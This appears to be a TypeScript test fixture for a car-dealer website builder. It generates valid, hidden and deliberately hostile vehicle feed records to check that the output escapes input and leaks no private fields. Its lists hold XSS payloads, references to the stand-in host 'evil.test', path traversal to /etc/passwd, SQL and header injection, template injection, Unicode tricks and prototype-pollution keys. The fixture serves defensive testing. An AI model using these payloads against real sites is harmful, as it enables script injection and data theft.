import type { FeedRecord } from '../fixture-site.ts';

/** The host that no page may contact. */
export const EVIL_HOST = 'evil.test';

/** Content of private, unknown and hidden fields, which no emitted byte may contain. */
export const PRIVATE_WORDS = ['Zanzibarville', '98765', 'margin-of-4711', 'HiddenWonderCar'] as const;

/** A valid car with private and unknown fields. */
export function goodRecord(number: number): FeedRecord {
  const [private_suburb, private_postcode, internal_note] = PRIVATE_WORDS;
  return {
    id: number,
    slug: `2021-toyota-corolla-${number}`,
    name: `2021 Toyota Corolla ${number}`,
    make: 'Toyota',
    model: 'Corolla',
    year: 2021,
    km: 40_000 + number,
    price: 20_000 + number,
    status: 'in_stock',
    car_type: 'used',
    images: [{ image: { url: `/img/${number}.jpg` } }],
    location: { slug: 'newcastle', name: 'Harbour Newcastle', private_phone: private_postcode },
    private_suburb,
    private_postcode,
    internal_note,
  };
}

/** A car that the feed marks as not for the website. */
export const hiddenRecord = (number: number): FeedRecord => ({
  ...goodRecord(number),
  name: PRIVATE_WORDS[3],
  slug: `hidden-${number}`,
  show_on_dealer_website: false,
});

const TEXTS = [
  '<script>window.pwned=1</script>',
  '</script><script>alert(1)</script>',
  `"><img src=https://${EVIL_HOST}/x onerror=alert(1)>`,
  "' onmouseover='alert(1)' x='",
  '" autofocus onfocus=alert(1) x="',
  '<svg/onload=alert(1)>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '&#60;img src&#61;x onerror&#61;alert(1)&#62;',
  `<style>@import "https://${EVIL_HOST}/x.css"</style>`,
  `<base href="https://${EVIL_HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${EVIL_HOST}/">`,
  `<iframe src="https://${EVIL_HOST}/"></iframe>`,
  `<a href="javascript:alert(1)">click</a>`,
  `<form action="https://${EVIL_HOST}/"><input name=q>`,
  '<!--<script>',
  ']]><![CDATA[<script>alert(1)</script>',
  '<title></title><textarea><plaintext>',
  'javascript:alert(1)',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack
  '${alert(1)}{{constructor.constructor("alert(1)")()}}<%= 7*7 %>#{7*7}',
  "'; DROP TABLE leads; --",
  '\u202egpj.exe\u2066\u200f',
  '\u0000\u0007\u001b[31mred\u009f',
  '\ud800\udfff\udc00',
  'A'.repeat(100_000),
  '<'.repeat(50_000),
  '&'.repeat(50_000),
  'Z\u0335\u0322\u0354'.repeat(500),
  '\r\nSet-Cookie: session=1\r\n\r\n<script>',
  ...['null', 'undefined', 'NaN', '[object Object]', 'Invalid Date', 'Toyota null', 'Corolla undefined NaN'],
  ...['constructor', '__proto__', 'toString', 'hasOwnProperty'],
  ...['New Cars', 'used-cars', 'page', '日本', '!!!', 'TOYOTA', 'toyota', 'Toyota\u00a0', 'Ｔｏｙｏｔａ'],
] as const;

const WRONG_TYPES: readonly unknown[] = [
  {},
  [],
  { toString: 'x' },
  [[]],
  true,
  -1,
  1e308,
  '1e999',
  0.1,
  '0x10',
  [null],
  'Infinity',
];

const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  `https://${EVIL_HOST}/x.png`,
  `http://${EVIL_HOST}/x.png`,
  `//${EVIL_HOST}/x.png`,
  `/\\${EVIL_HOST}/x.png`,
  `/\t/${EVIL_HOST}/x.png`,
  `\\\\${EVIL_HOST}\\x.png`,
  `https://harbour.example@${EVIL_HOST}/x.png`,
  `https://[${EVIL_HOST}/x.png`,
  `http://${EVIL_HOST} /x.png`,
  `https://harbour.example.${EVIL_HOST}/x.png`,
  '/x.png" onerror="alert(1)',
  `/x.png 1x, https://${EVIL_HOST}/x.png 2x`,
  'file:///etc/passwd',
  'vbscript:msgbox(1)',
];

const SLUGS = [
  ...[
    '../..',
    '../../etc/passwd',
    '..%2f..',
    '/etc/passwd',
    'a/b',
    'a\\b',
    'a b',
    '.',
    '..',
    '',
    '-car',
    'car-',
  ],
  ...[
    'a\u0000b',
    '%00',
    'e\u0301',
    'é',
    'ＡＢＣ',
    '\u202ecar',
    'a'.repeat(500),
    '__proto__',
    'a?b=c',
    'a#b',
    '<b>',
  ],
  ...['constructor', 'con', 'trade-in', 'index', '404', 'cars'],
] as const;

const IDS: readonly unknown[] = [
  null,
  '',
  'null',
  {},
  [],
  true,
  '../x',
  '<b>x</b>',
  'a b',
  '\u202e1',
  'x'.repeat(500),
  0.5,
  '__proto__',
];

/** Fields with text; a dot separates group and field. */
const TEXT_FIELDS = [
  ...['name', 'make', 'model', 'badge', 'series', 'tag', 'colour', 'interior_colour', 'drive', 'trans'],
  ...['simple_transmission', 'simple_body', 'simple_fuel', 'fuel', 'dealercomments', 'city', 'state'],
  ...['location_name', 'location_phone', 'stocknum', 'vin', 'regplate', 'rego_expiry', 'build_date'],
  ...['compliance_date', 'engine_size', 'carsales_title', 'dealership_id', 'dealership_slug', 'item_type'],
  ...['price_type', 'created_at', 'standardEquipment', 'variant.induction', 'variant.torque'],
  ...['variant.enginesize', 'variant.bodyconfiguration', 'specifications.axle_type', 'autograb_data.as_at'],
] as const;

const FIELDS = [
  ...TEXT_FIELDS,
  ...['year', 'km', 'price', 'before_price', 'subscription_price', 'drive_away_price', 'preorder', 'status'],
  ...['sold', 'reserved', 'sold_date_timestamp', 'car_type', 'certified', 'seats', 'doors', 'images', 'file'],
  ...['thumbnails', 'primary_image_url', 'variant', 'variant.cylinders', 'specifications', 'autograb_data'],
  ...['finance_lenders', 'location', 'deposit', 'has_nvic', 'variant.ancaprating', 'slug', 'id'],
] as const;

/** Values that are not records. */
const NO_RECORDS: readonly unknown[] = [null, 42, 'car', true, [], [[]], nested(500)];

type Attack = (record: FeedRecord, pick: <T>(choices: readonly T[]) => T) => unknown;

const ATTACKS: readonly Attack[] = [
  (record, pick) => withValue(record, pick(TEXT_FIELDS), pick(TEXTS)),
  (record, pick) => withValue(record, pick(TEXT_FIELDS), pick(TEXTS)),
  (record, pick) => TEXT_FIELDS.reduce((all, field) => withValue(all, field, pick(TEXTS)), record),
  (record, pick) => withValue(record, pick(FIELDS), pick(WRONG_TYPES)),
  (record, pick) => FIELDS.slice(1).reduce((all, field) => withValue(all, field, pick(WRONG_TYPES)), record),
  (record, pick) => ({ ...record, slug: pick(SLUGS) }),
  (record, pick) => ({ ...record, id: pick(IDS) }),
  (record, pick) => ({
    ...record,
    images: [{ image: { url: pick(ADDRESSES) } }, pick(ADDRESSES)],
    primary_image_url: pick(ADDRESSES),
    file: pick(ADDRESSES),
  }),
  (record, pick) => ({ ...record, finance_lenders: { [pick(TEXTS)]: { interestRate: pick(WRONG_TYPES) } } }),
  (record) => polluting(record),
  (_record, pick) => pick(NO_RECORDS),
];

/** Hostile records, numbered from `first`; `pick` chooses the attack of each. */
export function hostileRecords(
  count: number,
  first: number,
  pick: <T>(choices: readonly T[]) => T,
): unknown[] {
  return Array.from({ length: count }, (_, index) => {
    const record = { ...goodRecord(first + index), slug: `hostile-${first + index}` };
    return pick(ATTACKS)(record, pick);
  });
}

function withValue(record: FeedRecord, field: string, value: unknown): FeedRecord {
  const [group = '', name] = field.split('.');
  if (name === undefined) return { ...record, [group]: value };
  const inner = record[group];
  return { ...record, [group]: { ...(typeof inner === 'object' ? inner : {}), [name]: value } };
}

/** Keys that address the prototype; only `JSON.parse` makes an own `__proto__`. */
function polluting(record: FeedRecord): unknown {
  const keys = '"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}';
  const nestedKeys = `"variant":{${keys}},"location":{${keys}},"finance_lenders":{${keys}}`;
  return JSON.parse(`${JSON.stringify(record).slice(0, -1)},${keys},${nestedKeys}}`);
}

function nested(depth: number): unknown {
  let value: unknown = 'deep';
  for (let level = 0; level < depth; level += 1) value = [value];
  return value;
}
